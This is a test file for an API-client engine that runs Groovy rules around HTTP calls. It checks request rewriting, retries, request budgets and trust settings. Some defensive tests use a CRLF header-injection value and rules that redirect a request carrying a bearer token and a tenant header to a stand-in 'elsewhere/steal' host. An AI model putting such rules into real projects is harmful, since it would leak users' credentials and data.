import { describe, expect, test } from 'vitest';
import { createEngine, defaultScanOptions, type EndpointId } from '../../engine.ts';
import {
  type CallRunner,
  findRefusal,
  type HttpExchange,
  type HttpRequest,
  makeCall,
  neverCancelled,
  noEnvironment,
  noScripts,
  noVariables,
  type ScriptPair,
  withText,
} from '../../requests.ts';
import { memoryFiles } from '../../testing/memory-files.ts';
import type { Call, CallResponse } from './call.ts';
import type { Consent, MovedRequest } from './moved-request.ts';

const source = `package shop; import org.springframework.web.bind.annotation.*;
  @RestController class Orders { @PostMapping("/orders") void add() {} @GetMapping("/orders") void all() {} }`;

const add = 'p:shop.Orders#add()' as EndpointId;
const request: HttpRequest = {
  kind: 'http',
  method: 'POST',
  url: 'http://localhost:8080/orders?page=1',
  headers: [['Accept', '*/*']],
  body: { kind: 'text', text: '{"id": 7}' },
};

const callOf = (change: Partial<Call> = {}): Call => ({
  ...{
    name: 'add',
    requestId: '1',
    request,
    scripts: [],
    variables: noVariables,
    userDefined: noEnvironment,
  },
  ...{ timesSent: 0, ...change },
});

function responseOf(change: Partial<CallResponse> = {}): CallResponse {
  return { status: 200, statusText: '', headers: [], body: '', timeMs: 1, bytes: 0, ...change };
}

function engineWith(rules: string, isTrusted = true) {
  const engine = createEngine(memoryFiles({ '/p/.easy.api.config': rules, '/p/Orders.java': source }));
  const observer = { onProgress() {}, onFindings() {}, isCancelled: () => false };
  engine.scan({ roots: ['/p'], base: '/p', options: { ...defaultScanOptions, isTrusted } }, observer);
  return {
    before: (change: Partial<Call> = {}) => engine.beforeCall(add, callOf(change)),
    after: (response: CallResponse, change: Partial<Call> = {}) =>
      engine.afterCall(add, callOf(change), response),
    /** Counts the ways to the engine and back. */
    runner(trips: string[] = [], decode: (bytes: Uint8Array) => string = () => ''): CallRunner {
      return {
        async before(call) {
          trips.push('before');
          return engine.beforeCall(add, call);
        },
        async after(call, response) {
          trips.push('after');
          return engine.afterCall(add, call, withText(response, decode));
        },
      };
    },
  };
}

describe('credentials of a call', () => {
  const credentials = { kind: 'bearer', token: '{{token}}' } as const;

  test('go into the request behind the scripts and before the rules, with the values of their variables', () => {
    const rules = 'http.call.before=groovy:logger.info(request.headers().toString())';
    const script = `pm.environment.set('token', pm.request.headers.has('Authorization') ? 'seen' : 'unseen')`;
    const { request: ready, log } = engineWith(rules).before({
      credentials,
      scripts: [{ level: 'endpoint', text: script }],
    });
    expect(ready.headers).toContainEqual(['Authorization', 'Bearer unseen']);
    expect(log).toMatchObject([{ by: 'rule', message: expect.stringContaining('Bearer unseen') }]);
  });

  test('are missed where their variables have no value', () => {
    expect(engineWith('').before({ credentials }).missing).toEqual(['token']);
  });

  test('are asked about where a rule moves the request elsewhere', async () => {
    const rules = 'http.call.before=groovy:request.setUrl("https://elsewhere.example/")';
    const {
      prepared,
      request: ready,
      movedBy,
    } = engineWith(rules).before({
      credentials: { kind: 'bearer', token: 'abcdef' },
    });
    const moves: MovedRequest[] = [];
    const asking = async (move: MovedRequest): Promise<Consent> => {
      moves.push(move);
      return { kind: 'refused', advice: 'No.' };
    };
    const refused = await findRefusal(prepared, ready, { kind: 'rules', rules: movedBy }, asking);
    expect(refused?.reason).toBe('not-allowed');
    expect(moves[0]?.carries).toContain('Authorization');
  });
});

describe('rules before a call', () => {
  test('read the request and change what is sent', () => {
    const rules = `http.call.before=groovy:\`\`\`
logger.info(request.url() + " " + request.method() + " " + request.body().id)
request.setHeader("Authorization", "Bearer " + request.headers().size())
request.removeHeader("accept")
request.setQuery("page", 2)
request.addQuery("q", "a b")
request.setBody('{"id": 8}')
\`\`\``;
    expect(engineWith(rules).before()).toMatchObject({
      request: {
        ...request,
        url: 'http://localhost:8080/orders?page=2&q=a%20b',
        headers: [['Authorization', 'Bearer 1']],
        body: { kind: 'text', text: '{"id": 8}' },
      },
      prepared: request,
      log: [{ by: 'rule', level: 'info', message: 'http://localhost:8080/orders?page=1 POST 7' }],
      problems: [],
      movedBy: [],
    });
  });

  test('may be for some handlers only', () => {
    const engine = engineWith('http.call.before[#regex:#all]=groovy:request.setHeader("X", "1")');
    expect(engine.before().request).toEqual(request);
    expect(engine.before().readsResponse).toBe(false);
  });

  test('change nothing in a project that nobody trusts', () => {
    const rules = `http.call.before=groovy:request.setHeader("X", "1")
http.call.after=groovy:response.discard()`;
    const engine = engineWith(rules, false);
    expect(engine.before()).toMatchObject({ request, readsResponse: false });
    expect(engine.after(responseOf()).sendAgain).toBe(false);
  });

  test('that fail are told with their line, and what they had done is taken back', () => {
    const rules = `# around calls
http.call.before=groovy:request.setHeader("X", "1"); request.nothing()
http.call.before=groovy:request.setUrl("http://elsewhere/"); while (true) {}
http.call.before=groovy:request.setHeader("Y", "2")`;
    const ready = engineWith(rules).before();
    expect(ready.request).toEqual({ ...request, headers: [...request.headers, ['Y', '2']] });
    expect(ready.movedBy).toEqual([]);
    expect(ready.problems).toMatchObject([
      {
        ...{ by: 'rule', message: expect.stringContaining('nothing') },
        from: { file: '.easy.api.config', line: 2 },
      },
      { message: expect.stringMatching(/took (?:longer|more)/), from: { line: 3 } },
    ]);
  });

  test('cannot bring headers that would break out of their line', () => {
    const engine = engineWith('http.call.before=groovy:request.setHeader("X", "a\\r\\nEvil: 1")');
    const { request: ready, log } = engine.before();
    expect(ready.headers).toEqual(request.headers);
    expect(log).toMatchObject([
      { by: 'rule', level: 'warn', message: expect.stringContaining('line break') },
    ]);
  });

  test('leave a form that they do not touch as it is', () => {
    const engine = engineWith(
      'http.call.before=groovy:request.setHeader("X", request.formParams()[0].value())',
    );
    const headers = [['Content-Type', 'application/x-www-form-urlencoded']] as const;
    const form = { ...request, headers, body: { kind: 'form', fields: [['a', 'b&c']] } } as const;
    expect(engine.before({ request: form }).request).toEqual({
      ...form,
      headers: [...headers, ['X', 'b&c']],
    });
  });

  test('see what scripts of the user have made of the request, with its values', () => {
    const engine = engineWith('http.call.before=groovy:logger.info(request.url())');
    const text = `pm.request.url = 'http://localhost/{{id}}'; pm.variables.set('id', 7); println 'ready'`;
    expect(engine.before({ scripts: [{ level: 'class', text }] }).log).toEqual([
      { by: 'script', level: 'info', message: 'ready' },
      { by: 'rule', level: 'info', message: 'http://localhost/7' },
    ]);
  });

  test('do not run where a value is missing, because nothing is sent', () => {
    const engine = engineWith('http.call.before=groovy:logger.info("sent")');
    const open = { ...request, url: 'http://localhost/{{id}}' };
    expect(engine.before({ request: open })).toMatchObject({ missing: ['id'], log: [] });
  });
});

describe('rules after a call', () => {
  test('read the response, as text and as JSON', () => {
    const rules =
      'http.call.after=groovy:logger.warn(response.code() + " " + response.firstHeader("x-id") + " " + response.body().token + " " + response.request().url())';
    const response = responseOf({ status: 401, headers: [['X-Id', '5']], body: '{"token": "t"}' });
    expect(engineWith(rules).after(response)).toMatchObject({
      sendAgain: false,
      log: [{ by: 'rule', level: 'warn', message: `401 5 t ${request.url}` }],
      problems: [],
    });
  });

  test('find in the session what others have kept there', () => {
    const engine = engineWith(`http.call.after=groovy:session.set("token", response.body().token)
http.call.before=groovy:request.setHeader("X-Token", session.get("token") ?: "none")`);
    const token = () => engine.before().request.headers.at(-1);
    expect(token()).toEqual(['X-Token', 'none']);
    engine.after(responseOf({ body: '{"token": "t1"}' }));
    expect(token()).toEqual(['X-Token', 't1']);
  });

  test('run before the tests of the user, which a discarded response never reaches', () => {
    const engine = engineWith(
      'http.call.after=groovy:logger.info("rule"); if (response.code() == 401) response.discard()',
    );
    const scripts = [{ level: 'endpoint', text: 'logger.info("script"); pm.test("ok") {}' }] as const;
    const said = (response: CallResponse, timesSent: number) => {
      const { log, tests, sendAgain } = engine.after(response, { scripts, timesSent });
      return [log.map(({ message }) => message), tests.length, sendAgain];
    };
    expect(said(responseOf(), 0)).toEqual([['rule', 'script'], 1, false]);
    expect(said(responseOf({ status: 401 }), 0)).toEqual([['rule'], 0, true]);
    expect(said(responseOf({ status: 401 }), 3)).toEqual([['rule', 'script'], 1, false]);
  });
});

test('scripts and rules share the requests that they may send', () => {
  const many = (send: string) =>
    `(1..15).each { try { ${send} } catch (Exception e) { logger.warn(e.message) } }`;
  const engine = engineWith(`http.call.before=groovy:${many('httpClient.get("http://a/").code()')}`);
  const { log } = engine.before({ scripts: [{ level: 'class', text: many('pm.sendRequest("http://a/")') }] });
  const overdrawn = log.filter(({ message }) =>
    message.includes('20 requests, as many as one call may send'),
  );
  expect(overdrawn.map(({ by }) => by)).toEqual(Array(10).fill('rule'));
});

describe('a whole call', () => {
  interface Given {
    readonly scripts?: ScriptPair;
    readonly status?: number;
    readonly body?: string;
    readonly planned?: HttpRequest;
    readonly ask?: (move: MovedRequest) => Promise<Consent>;
    readonly decode?: (bytes: Uint8Array) => string;
  }

  async function call(
    rules: string,
    { scripts = noScripts, status = 200, body, planned = request, ask = askNobody, decode }: Given = {},
  ) {
    const trips: string[] = [];
    const sent: HttpRequest[] = [];
    const made = await makeCall(
      {
        ...{ name: 'add', requestId: '1', request: planned },
        scripts: { folder: noScripts, class: noScripts, endpoint: scripts },
      },
      {
        runner: engineWith(rules).runner(trips, decode),
        variables: { read: () => noVariables, userDefined: () => noEnvironment, write: () => undefined },
        cancellation: neverCancelled,
        refusal: ({ prepared, request: changed, movedBy }) =>
          findRefusal(prepared, changed, { kind: 'rules', rules: movedBy }, ask),
        async send({ request: ready }) {
          trips.push('send');
          sent.push(ready);
          return exchangeOf(status, body);
        },
      },
    );
    return { made, trips, sent };
  }

  test('goes to the engine once before it is sent, and once more where something looks at the response', async () => {
    const both = { before: 'pm.variables.set("a", 1)', after: 'pm.test("a") {}' };
    const rules = 'http.call.before=groovy:1\nhttp.call.after=groovy:1';
    expect((await call('')).trips).toEqual(['before', 'send']);
    expect((await call(rules, { scripts: both })).trips).toEqual(['before', 'send', 'after']);
    expect((await call('', { scripts: both })).trips).toEqual(['before', 'send', 'after']);
    expect((await call(rules)).trips).toEqual(['before', 'send', 'after']);
  });

  test('is made again where a rule discards the response, three times at most, and its scripts run once', async () => {
    const rules = `http.call.before=groovy:request.addHeader("X", "1")
http.call.after=groovy:if (response.code() == 401) response.discard()`;
    const scripts = { before: 'logger.info("before")', after: 'logger.info("after")' };
    expect((await call(rules, { scripts })).sent).toHaveLength(1);
    const { made, sent } = await call(rules, { scripts, status: 401 });
    expect(sent).toHaveLength(4);
    expect(sent.at(-1)?.headers).toEqual([...request.headers, ['X', '1']]);
    expect(made).toMatchObject({ kind: 'sent', exchange: { status: 401 } });
    expect(made.report.log.map(({ message }) => message)).toEqual(['before', 'after']);
  });

  test('has the body as text where a rule reads it, and nowhere else', async () => {
    const decoded = async (rules: string) => {
      let times = 0;
      const decode = (bytes: Uint8Array) => {
        times++;
        return String.fromCharCode(...bytes);
      };
      const { made } = await call(rules, { body: '{"id": "ä"}', decode });
      return { times, said: made.report.log.map(({ message }) => message) };
    };
    expect(await decoded('http.call.after=groovy:logger.info(response.body().id)')).toEqual({
      times: 1,
      said: ['ä'],
    });
    expect(await decoded('http.call.after=groovy:logger.info(response.code())')).toEqual({
      times: 0,
      said: ['200'],
    });
  });

  test('that fails has no response to look at', async () => {
    const { made, trips } = await call('http.call.after=groovy:logger.info("never")', { status: 0 });
    expect(made).toMatchObject({ kind: 'sent', exchange: { kind: 'failure' }, report: { log: [] } });
    expect(trips).toEqual(['before', 'send']);
  });

  test('that a rule moves is named with its line, and a rule that fails has moved nothing', async () => {
    const rules = `# moves
http.call.before=groovy:request.setHeader("X", "1")
http.call.before=groovy:request.setUrl("http://nowhere/"); request.nothing()
http.call.before=groovy:request.setUrl("http://elsewhere/steal?x=1")
http.call.before=groovy:request.setQuery("y", "2")
`;
    const asked: MovedRequest[] = [];
    const secret: HttpRequest = { ...request, headers: [...request.headers, ['X-Tenant', '7']] };
    const attempt = (consent: Consent) =>
      call(rules, {
        planned: secret,
        async ask(move) {
          asked.push(move);
          return consent;
        },
      });
    const refused = await attempt({ kind: 'refused', advice: 'Ask me.' });
    expect(refused.sent).toEqual([]);
    expect(refused.made).toMatchObject({
      request: secret,
      exchange: {
        kind: 'failure',
        reason: 'not-allowed',
        message:
          'The rule http.call.before in .easy.api.config:4 moves this request from http://localhost:8080 to http://elsewhere:80. ' +
          'X-Tenant, X, the parameters of the query and the body would go there. Nothing was sent. Ask me.',
      },
    });
    const { sent } = await attempt({ kind: 'given' });
    expect(sent.map(({ url }) => url)).toEqual(['http://elsewhere/steal?x=1&y=2']);
    expect(asked).toHaveLength(2);
  });
});

const askNobody = async (): Promise<Consent> => {
  throw new Error('Nothing was moved, so that nobody is asked.');
};

/** @param status 0 for a request without a response */
function exchangeOf(status: number, text = ''): HttpExchange {
  if (status === 0) return { kind: 'failure', reason: 'refused', message: 'no', redirects: [] };
  return {
    kind: 'response',
    method: 'POST',
    url: request.url,
    status,
    statusText: '',
    httpVersion: '1.1',
    headers: [],
    body: Uint8Array.from(text, (each) => each.charCodeAt(0)),
    size: { encoded: 0, decoded: 0 },
    timing: { firstByteMs: 1, totalMs: 1 },
    redirects: [],
    isCertificateVerified: true,
  };
}
